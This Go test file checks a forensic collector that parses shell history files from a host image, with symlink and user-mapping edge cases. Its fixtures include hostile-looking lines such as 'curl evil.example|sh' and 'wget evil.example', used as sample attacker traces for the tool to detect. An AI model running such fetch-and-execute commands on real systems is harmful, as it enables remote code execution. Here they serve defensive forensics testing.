package artifact

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestShellHistory(t *testing.T) {
	root := t.TempDir()
	place(t, root, map[string]string{
		"etc/passwd":                           "root:x:0:0::/root:/bin/sh\nmallory:x:1000:1000::/srv/m:/bin/zsh\nother:x:1001:1000::/srv/m:/bin/zsh\n",
		"root/.bash_history":                   "#1700000000\ncurl evil.example|sh\nid \xff\n",
		"srv/m/.zsh_history":                   ": 1700000001:5;make\n",
		"home/gone/.ash_history":               "wget evil.example\n",
		"srv/m/.local/share/fish/fish_history": "- cmd: ls\n  when: 1700000002\n",
		"srv/m/places.sqlite":                  "no history",
		"root/kept":                            "x\n",
	})
	for name, target := range map[string]string{"home/gone/.bash_history": "/dev/null", "root/.python_history": "../root/kept", "srv/m/.mysql_history": "../../../../etc/hostname"} {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	got, record := table[HistoryCommand](t, &Host{Root: root}, "shell_history")
	at := func(n int64) *time.Time { when := time.Unix(n, 0).UTC(); return &when }
	want := []HistoryCommand{
		{User: "root", FileFacts: FileFacts{File: "/root/.bash_history"}, Line: 2, Time: at(1700000000), Command: "curl evil.example|sh"},
		{User: "root", FileFacts: FileFacts{File: "/root/.bash_history"}, Line: 3, Command: "id \xff"},
		{User: "root", FileFacts: FileFacts{File: "/root/.python_history", Target: "../root/kept"}, Line: 1, Command: "x"},
		{User: "mallory", FileFacts: FileFacts{File: "/srv/m/.zsh_history"}, Line: 1, Time: at(1700000001), Seconds: 5, Command: "make"},
		{User: "mallory", FileFacts: FileFacts{File: "/srv/m/.local/share/fish/fish_history"}, Line: 1, Time: at(1700000002), Command: "ls"},
		{FileFacts: FileFacts{File: "/home/gone/.ash_history"}, Line: 1, Command: "wget evil.example"},
	}
	if diff := cmp.Diff(want, got, cmpopts.IgnoreFields(FileFacts{}, "UID", "GID", "Mode", "Size", "Modified")); diff != "" {
		t.Error(diff)
	}
	if e := find(t, record, "/home/gone/.bash_history"); e.Note != NoteUnread || e.Detail != "a link to /dev/null" {
		t.Errorf("on record is %+v", e)
	}
}
